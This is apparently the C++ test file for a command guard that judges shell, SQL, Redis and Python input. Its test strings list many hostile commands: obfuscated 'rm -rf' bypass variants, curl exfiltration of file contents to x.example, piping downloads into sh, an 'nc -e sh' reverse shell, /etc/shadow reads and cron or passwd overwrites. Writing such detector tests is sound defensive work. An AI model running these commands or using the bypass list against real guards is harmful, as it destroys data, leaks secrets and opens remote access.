#include <catch2/catch.hpp>

#include "policy/guard/guard.h"
#include "policy/guard/packs/packs.h"

using namespace sallyport;
using namespace sallyport::guard;

namespace {

std::shared_ptr<const RuleSet> full() {
  static const auto k_set = *RuleSet::from_bytes(encode(full_document()));
  return k_set;
}
Judgement judged(const std::string& text, Origin origin = Origin::script) { return Guard(full()).judge(text, Dialect::shell, origin); }
bool stops(const std::string& text) { return judged(text).verdict >= Verdict::confirm; }
bool is_denied(const std::string& text) { return judged(text).verdict >= Verdict::deny; }
bool notes(const Judgement& j, Opaque kind) {
  return std::any_of(j.findings.begin(), j.findings.end(), [&](const Finding& f) { return f.opaque == kind; });
}

TEST_CASE("a Python prompt knows what was imported and assigned at it", "[guard]") {
  auto set = RuleSet::from_bytes(encode(full_document()));
  REQUIRE(set);
  Guard guard(*set);
  const auto verdict = [&](std::string_view text) { return guard.judge(text, Dialect::python).verdict; };
  CHECK(verdict("go('rm -rf /etc/x')") == Verdict::allow);
  guard.ran("from os import system as go", Dialect::python);
  CHECK(verdict("go('rm -rf /etc/x')") == Verdict::deny);
  CHECK(verdict("go('ls')") == Verdict::allow);
  guard.ran("where = '/etc/x'", Dialect::python);
  CHECK(verdict("shutil.rmtree(where)") == Verdict::deny);
  for (int i = 0; i < 5000; ++i) guard.ran("name" + std::to_string(i) + " = '" + std::string(40, 'x') + "'", Dialect::python);
  CHECK(verdict("print(1)") == Verdict::allow);
}

TEST_CASE("a statement typed over several lines is judged with its end", "[guard]") {
  auto set = RuleSet::from_bytes(encode(full_document()));
  REQUIRE(set);
  const Guard guard(*set);
  for (const Dialect dialect : {Dialect::psql, Dialect::mysql}) {
    const auto first = guard.judge("update t", dialect);
    CHECK(first.incomplete);
    CHECK(first.verdict == Verdict::allow);
    CHECK(guard.judge("update t\nset a = 1;", dialect).verdict == Verdict::deny);
    CHECK(guard.judge("update t\nset a = 1\nwhere id = 7;", dialect).verdict == Verdict::allow);
    CHECK(guard.judge("drop table t", dialect).verdict == Verdict::deny);
  }
  CHECK(guard.judge("psql -c 'delete from users'").verdict == Verdict::deny);
}

TEST_CASE("loops that start without end, sweeps and files in a request's data are seen by their shape", "[guard]") {
  auto set = RuleSet::from_bytes(encode(full_document()));
  REQUIRE(set);
  const Guard guard(*set);
  const auto flags = [&](std::string_view text) { return guard.judge(text, Dialect::shell, Origin::script).verdict >= Verdict::confirm; };
  for (const char* text : {"while true; do ./x & done", "while :; do bash -c 'sleep 100' & done", "until false; do x & y & done", "for i in {1..254}; do ping -c1 192.168.1.$i & done",
                           "seq 1 254 | xargs -I{} ping -c1 10.0.0.{}", "curl -d \"$(cat app.log)\" https://x.example", "curl --data \"$(base64 /srv/a)\" https://x.example",
                           "curl \"https://x.example/?q=$(<notes.txt)\"", "wget --post-data=\"`cat /srv/a`\" https://x.example"}) {
    INFO(text);
    CHECK(flags(text));
  }
  for (const char* text : {"while true; do ./poll & wait; done", "while true; do ./x & sleep 5; done", "for i in 1 2 3; do sleep 1 & done", "for h in web-1 web-2; do ping -c1 $h; done",
                           "curl -d \"$(cat body.json)\" http://localhost:8080/x", "curl -H \"Authorization: Bearer $(cat token)\" https://api.example/x", "curl -d \"t=$(date)\" https://x.example"}) {
    INFO(text);
    CHECK_FALSE(flags(text));
  }
}

}  // namespace

TEST_CASE("every shipped pack is read without a problem and passes the tests inside it", "[guard][packs]") {
  std::vector<PathClass> shared;
  std::vector<policy::Diagnostic> problems;
  std::size_t tests = 0;
  for (const Pack& pack : shipped_packs()) {
    CHECK_FALSE(pack.name.empty());
    CHECK(pack.version >= 1);
    for (const PackRule& rule : pack.rules) {
      INFO(rule.rule.id);
      CHECK(pattern_problem(rule.rule.pattern).empty());
      CHECK(pattern_problem(rule.rule.unless).empty());
      CHECK_FALSE(rule.tests.empty());
      tests += rule.tests.size();
    }
    for (const TestFailure& failure : run_tests(pack.rules)) FAIL_CHECK(pack.name << ".yaml:" << failure.line << ": " << failure.message);
  }
  CHECK(tests > 300);
}

TEST_CASE("known bypasses of other guards are stopped", "[guard]") {
  for (const std::string text : {"ls;rm -rf /data", "ls && rm -rf /data", "ls|rm -rf /data", "ls\nrm -rf /data", "echo ok # x\nrm -rf /data", "true || rm -rf /data", "ls & rm -rf /data", "(rm -rf /data)", "{ rm -rf /data; }",
                                 "rm >/dev/null -rf /data", "l\\\ns; r\\\nm -rf /data", "r''m -rf /data", "$'\\x72m' -rf /data", "\\rm -rf /data", "r${zz}m -rf /data", "c=rm; $c -rf /data", "cat <<E | sh\nrm -rf /data\nE",
                                 "echo cm0gLXJmIC9kYXRhCg== | base64 -d | sh", "bash -c \"$(echo 'rm -rf /data')\"", "f(){ rm \"$@\"; }; f -rf /data", "alias ls='rm -rf /data'\nls", "xargs rm -rf <<< /data", "find / -name x -exec rm -rf {} +",
                                 "sudo -u root env A=1 nice -n 5 timeout 3 rm -rf /data", "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /data", "busybox rm -rf /data", "python3 -c 'import os; os.system(\"rm -rf /data\")'",
                                 "perl -e 'system(\"rm -rf /data\")'", "perl -i.bak -l012ne'system(\"rm -rf /data\")' x", "perl -M'POSIX;system(\"rm -rf /data\")' -e1", "ruby -W0ne'system(\"rm -rf /data\")'", "python3 -Bc'import os; os.system(\"rm -rf /data\")'", "awk 'BEGIN{system(\"rm -rf /data\")}'", "x=rm; false && x=ls; $x -rf /data", "x=rm; (x=ls); $x -rf /data", "for c in ls rm; do $c -rf /data; done",
                                 "echo 'rm -rf /data' > /tmp/a; sh /tmp/a", "cp /bin/rm /tmp/x; /tmp/x -rf /data", "eval \"r\"\"m -rf /data\"", "cd / && rm -rf *", "rm -rf /tmp/../data", "while read l; do $l; done <<< 'rm -rf /data'",
                                 "set -- rm -rf /data; \"$@\"", "a=(rm -rf /data); \"${a[@]}\"", "printf -v c rm; $c -rf /data", "trap 'rm -rf /data' EXIT", "time rm -rf /data", "exec rm -rf /data", "command rm -rf /data",
                                 "echo ${a[$(rm -rf /data)]}", "echo ${#a[`rm -rf /data`]}", "b=1; echo ${b[$(rm -rf /data)]:-x}", "a='b[$(rm -rf /data)]'; echo $((a))", "[ -v 'a[$(rm -rf /data)]' ]",
                                 "printf -v 'a[$(rm -rf /data)]' x", "read 'a[`rm -rf /data`]' <<< x", "unset 'a[$(rm -rf /data)]'", "let 'a[$(rm -rf /data)]=1'", "=rm -rf /data", "sudo =rm -rf /data",
                                 "[[ -v 'a[$(rm -rf /data)]' ]]", "[[ 'a[$(rm -rf /data)]' -eq 1 ]]", "setarch x86_64 -R rm -rf /data", "runcon -t unconfined_t rm -rf /data", "echo /etc/hosts | entr -n rm -rf /data",
                                 "gdb -q <<E\nshell rm -rf /data\nquit\nE", "printf 'r /etc/shadow\\nw /tmp/x\\n' | ed -s", "find /etc -name 'sh*ow' -exec cp {} /tmp/ ';'", "wget -qO /etc/cron.d/x http://localhost/c"}) {
    INFO(text);
    CHECK(is_denied(text));
  }
}

TEST_CASE("a function of a program's name hides neither itself nor what a wrapper starts", "[guard]") {
  CHECK(stops("rm() { command rm \"$@\"; }; rm -rf /srv"));
  CHECK(stops("rm() { :; }; command rm -rf /srv"));
  CHECK(stops("rm() { :; }; env rm -rf /srv"));
  CHECK(stops("rm() { echo no; }; echo /srv | xargs rm -rf"));
  CHECK(stops("sudo() { command sudo -n \"$@\"; }; sudo rm -rf /srv"));
  CHECK_FALSE(stops("rm() { echo no; }; rm -rf /srv"));
  CHECK_FALSE(stops("ls() { command ls --color=auto \"$@\"; }; ls -la"));
}

TEST_CASE("programs that write by an option or operand of their own are seen to write", "[guard]") {
  for (const char* text :
       {"shuf -o /etc/passwd x", "uniq x /etc/passwd", "xxd -r p /etc/passwd", "patch /etc/passwd x", "script /etc/passwd", "logsave /etc/passwd ls",
        "iconv -f l1 x -o /etc/passwd", "split -b1 x /etc/cron.d/", "wget -P /etc/cron.d http://h.example/x", "BASH_CMDS[ls]=/bin/rm; ls -rf /srv",
        "tsp rm -rf /srv", "sed --expression='1e rm -rf /srv' x", "sed 's/.*/rm -rf \\/srv/e' /etc/hostname", "sed 's|^.*|rm -rf /srv|e' x"}) {
    CAPTURE(text);
    CHECK(stops(text));
  }
  for (const char* text :
       {"shuf -n 3 /etc/passwd", "uniq -c x", "xxd p", "split -l 10 x part_", "sed -e 's/e/e/g' x", "sed 's|a|e|' x", "wget -P /tmp/x http://h.example/x"}) {
    CAPTURE(text);
    CHECK_FALSE(stops(text));
  }
}

TEST_CASE("looking like a danger is not one", "[guard]") {
  for (const std::string text : {"echo rm -rf /data", "grep -r 'rm -rf /' docs", "cat rm.txt", "git commit -m 'rm -rf / and shutdown'", "ls /sbin/reboot", "man shutdown", "kubectl get pods -l app=reboot", "curl https://docs.example.com/rm-rf.html",
                                 "ping -c 3 ssh-gw.example.com", "systemctl status sshd", "tail -f /var/log/sudo.log", "psql -c \"select 'drop table x'\"", "history | grep ssh", ": rm -rf /", "true # rm -rf /", "vim shutdown_handler.py",
                                 "docker logs -f --tail 100 web", "journalctl -u nginx --since '1 hour ago'", "awk '{print $1}' access.log | sort | uniq -c | sort -nr | head -20", "tar czf logs.tgz logs/", "python3 -c 'print(1)'",
                                 "find . -name '*.pyc' -exec rm {} +", "rm -rf ./build", "echo 'a[$(rm -rf /data)]'", "for f in *.log; do gzip \"$f\"; done", "eval \"$(ssh-agent -s)\"",
                                 "curl -s http://localhost/api | python -mjson.tool", "seq 9 | perl -l40pe0", "perl -i.bak -pe's/a/b/' *.conf", "bind -P | grep complete", "bind 'set completion-ignore-case on'", "finger bob", "history -r",
                                 "for f in *; do mv \"$f\" \"unix_$f\"; done", "[[ $x == 'a[$(rm -rf /data)]' ]]", "find . -name '*.py' -exec sed -i s/a/b/ {} +", "setarch -R ./tests", "find . -type f -exec mv {} {}.jpg \\;", "find . -iname \"$s*\" -exec grep x {} \\;"}) {
    INFO(text);
    const Judgement j = judged(text);
    INFO((j.worst() != nullptr ? j.worst()->rule : ""));
    CHECK(j.verdict < Verdict::confirm);
  }
}

TEST_CASE("the most severe verdict wins and says what, why and how sure", "[guard]") {
  const Judgement j = judged("ls; sudo rm -rf /etc");
  REQUIRE(j.worst() != nullptr);
  CHECK(j.verdict == Verdict::deny);
  CHECK(j.worst()->rule == "destructive/rm-tree");
  CHECK(j.worst()->matched == "rm -rf /etc");
  CHECK(j.worst()->code == "SP-9001");
  CHECK_FALSE(j.worst()->reason.empty());
  CHECK(j.worst()->confidence == Confidence::resolved);
  CHECK(judged("rm -rf /etc").worst()->confidence == Confidence::exact);
  const auto inner = std::find_if(j.commands.begin(), j.commands.end(), [](const SimpleCommand& c) { return c.text == "rm -rf /etc"; });
  REQUIRE(inner != j.commands.end());
  CHECK(inner->nesting == "sudo");
}

TEST_CASE("what the guard cannot see is reported as opaque, with its kind", "[guard][opaque]") {
  // Each entry of "What it cannot see" in docs/guard.md.
  CHECK(notes(judged("$UNKNOWN -rf /data"), Opaque::hidden_command));
  CHECK(notes(judged("/usr/bin/r? -rf x"), Opaque::hidden_command));
  CHECK(notes(judged("curl -s https://x.example.com/i | sh"), Opaque::unseen_input));
  CHECK(notes(judged("cat /opt/unknown | bash"), Opaque::unseen_input));
  CHECK(notes(judged("python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' x"), Opaque::unseen_code));
  const auto all_kinds = [] {
    RuleDocument document;
    document.opaque.fill(Verdict::alert);
    return Guard(*RuleSet::from_bytes(encode(document)));
  }();
  CHECK(notes(all_kinds.judge("sh /opt/on-the-target.sh", Dialect::shell, Origin::script), Opaque::unseen_file));
  CHECK(notes(all_kinds.judge("bash", Dialect::shell, Origin::script), Opaque::nested_shell));
  CHECK(notes(all_kinds.judge("!rm", Dialect::shell, Origin::line), Opaque::history));
  CHECK(notes(all_kinds.judge("^ls^rm", Dialect::shell, Origin::line), Opaque::history));
  CHECK(notes(all_kinds.judge("echo 'no !history here'", Dialect::shell, Origin::line), Opaque::history) == false);
  CHECK(notes(all_kinds.judge("if then fi )", Dialect::shell, Origin::script), Opaque::unreadable));
  CHECK(notes(all_kinds.judge("a line", Dialect::other), Opaque::nested_shell));
  // A program that is already on the target, and an alias of an rc file, are plain commands to the guard: listed, nothing more.
  const Judgement program = all_kinds.judge("/opt/tools/cleanup --all", Dialect::shell, Origin::script);
  REQUIRE(program.commands.size() == 1);
  CHECK(program.commands[0].text == "cleanup --all");
}

TEST_CASE("the shell's state is remembered from line to line", "[guard][state]") {
  Guard guard(full());
  const auto deny = [&](const std::string& text) { return guard.judge(text).verdict == Verdict::deny; };
  guard.ran("c=rm; alias zz='rm -rf'; f() { rm -rf \"$1\"; }; cd /");
  CHECK(deny("$c -rf /data"));
  CHECK(deny("zz /data"));
  CHECK(deny("f /data"));
  CHECK(deny("rm -rf data"));
  CHECK(guard.state().cwd == "/");
  guard.ran("echo 'mkfs.ext4 /dev/sdb' > /tmp/s.sh");
  CHECK(deny("sh /tmp/s.sh"));
  guard.file_written("/tmp/by-scp.sh", "00", "#!/bin/sh\nnc -e sh 10.0.0.5 4444\n");
  CHECK(deny("/tmp/by-scp.sh"));
  CHECK(deny("bash /tmp/by-scp.sh"));
  // Judging changes nothing.
  (void)guard.judge("c=ls");
  CHECK(deny("$c -rf /data"));
  guard.ran("c=ls; unalias zz");
  CHECK_FALSE(deny("$c -rf /data"));
  CHECK_FALSE(deny("zz /tmp/x"));
}

TEST_CASE("unfinished text is said to be unfinished, and judged as far as it is there", "[guard]") {
  for (const std::string text : {"echo 'a", "echo \"a", "for i in 1 2", "for i in 1; do", "if true; then", "cat <<E\nx", "ls |", "ls &&", "f() {", "echo $(ls", "case x in", "ls \\", "while :; do ls", "( ls", "echo ${x"}) {
    INFO(text);
    CHECK(judged(text).incomplete);
  }
  for (const std::string text : {"ls", "for i in 1; do ls; done", "cat <<E\nx\nE", "f() { ls; }", "case x in a) ls;; esac", "echo \"a\"", "ls # it's"}) {
    INFO(text);
    CHECK_FALSE(judged(text).incomplete);
  }
  CHECK(is_denied("rm -rf /data; echo 'open"));
  CHECK(is_denied("rm -rf /data\nfor i in 1; do"));
}

TEST_CASE("an exec request that starts an interpreter on the connection is opaque and says its dialect", "[guard]") {
  for (const auto& [text, dialect] : {std::pair<std::string, Dialect>{"bash", Dialect::shell}, {"python3 -", Dialect::python}, {"psql app", Dialect::psql}, {"redis-cli", Dialect::redis}, {"sudo sh", Dialect::shell}}) {
    INFO(text);
    const Judgement j = judged(text, Origin::exec);
    CHECK(notes(j, Opaque::unseen_input));
    REQUIRE(j.enters);
    CHECK(*j.enters == dialect);
  }
  CHECK_FALSE(judged("uptime", Origin::exec).enters);
}

TEST_CASE("prompts of databases and interpreters are judged by their own rules", "[guard][dialect]") {
  const Guard guard(full());
  const auto verdict = [&](const std::string& text, Dialect dialect) { return guard.judge(text, dialect).verdict; };
  CHECK(verdict("DROP TABLE users;", Dialect::psql) == Verdict::deny);
  CHECK(verdict("select 'drop table users';", Dialect::psql) < Verdict::confirm);
  CHECK(verdict("DELETE FROM users;", Dialect::mysql) == Verdict::deny);
  CHECK(verdict("DELETE FROM users WHERE id = 3;", Dialect::mysql) < Verdict::confirm);
  CHECK(verdict("\\! sh", Dialect::psql) == Verdict::deny);
  CHECK(verdict("FLUSHALL", Dialect::redis) == Verdict::deny);
  CHECK(verdict("config  set dir /root", Dialect::redis) == Verdict::deny);
  CHECK(verdict("GET flushall", Dialect::redis) < Verdict::confirm);
  CHECK(verdict("import os; os.system('rm -rf /data')", Dialect::python) == Verdict::deny);
  CHECK(verdict("print('rm -rf /data')", Dialect::python) < Verdict::confirm);
  CHECK(guard.judge("select 1", Dialect::psql).incomplete);
  CHECK_FALSE(guard.judge("select 1;", Dialect::psql).incomplete);
}

TEST_CASE("bounds hold: long, deep and endless text ends opaque, never a crash", "[guard][limits]") {
  CHECK(notes(judged(std::string(70'000, 'a')), Opaque::unreadable));
  std::string deep;
  for (int i = 0; i < 20'000; ++i) deep += "$(";
  CHECK(stops("echo " + deep));
  std::string braces = "echo ";
  for (int i = 0; i < 200; ++i) braces += "{a,b}";
  (void)judged(braces);
  CHECK(stops("f(){ f; f; }; x=1; while :; do x=$x$x; done; rm -rf /data"));
  std::string many;
  for (int i = 0; i < 3000; ++i) many += "echo " + std::to_string(i) + ";";
  CHECK(stops(many));
  CHECK(stops("eval \"$(eval \"$(eval \"$(cat /opt/x)\")\")\""));
  // Wildcards in ${x//...} try every place and length.
  std::string wild = "x=" + std::string(99, 'a') + "; ";
  for (int i = 0; i < 1500; ++i) wild += "y=${x//*a*a*a*a*b/};";
  CHECK(notes(judged(wild), Opaque::unreadable));
  // Wide globs against every path rule.
  std::string globs = "cat";
  for (int i = 0; i < 4000; ++i) globs += " /e?c/*/.ss?/i*";
  CHECK(notes(judged(globs), Opaque::unreadable));
}

TEST_CASE("a rule set survives its bytes, and foreign bytes are refused", "[guard][rules]") {
  const RuleDocument document = full_document();
  const std::vector<std::byte> bytes = encode(document);
  const auto again = decode(bytes);
  REQUIRE(again);
  CHECK(encode(*again) == bytes);
  for (std::size_t cut = 0; cut < bytes.size(); cut += 997) CHECK_FALSE(RuleSet::from_bytes(std::span(bytes).first(cut)));
  std::vector<std::byte> more = bytes;
  more.push_back(std::byte{0});
  CHECK_FALSE(RuleSet::from_bytes(more));
  CHECK((*RuleSet::from_bytes(bytes))->id() == full()->id());
  CHECK(RuleSet::none()->is_empty());
  CHECK(Guard(RuleSet::none()).judge("rm -rf /").verdict == Verdict::allow);
}

TEST_CASE("allow-list mode lets only listed commands and permitted features through", "[guard][allow-list]") {
  RuleDocument document;
  document.allow_list_only = true;
  document.allowed = {"ls", "ls *", "systemctl status *", "grep *"};
  document.features = 1U << static_cast<unsigned>(Feature::pipe);
  const Guard guard(*RuleSet::from_bytes(encode(document)));
  const auto verdict = [&](const std::string& text) { return guard.judge(text, Dialect::shell, Origin::script).verdict; };
  CHECK(verdict("ls -l /var") == Verdict::allow);
  CHECK(verdict("systemctl status nginx") == Verdict::allow);
  CHECK(verdict("ls | grep x") == Verdict::allow);
  CHECK(verdict("cat x") == Verdict::deny);
  CHECK(verdict("ls; ls") == Verdict::deny);
  CHECK(verdict("ls > x") == Verdict::deny);
  CHECK(verdict("ls $(rm x)") == Verdict::deny);
  CHECK(verdict("ls *.txt") == Verdict::deny);
  CHECK(verdict("l\\s") == Verdict::deny);
  CHECK(verdict("bash") == Verdict::deny);
  CHECK(guard.judge("cat x").worst()->code == "SP-9005");
}
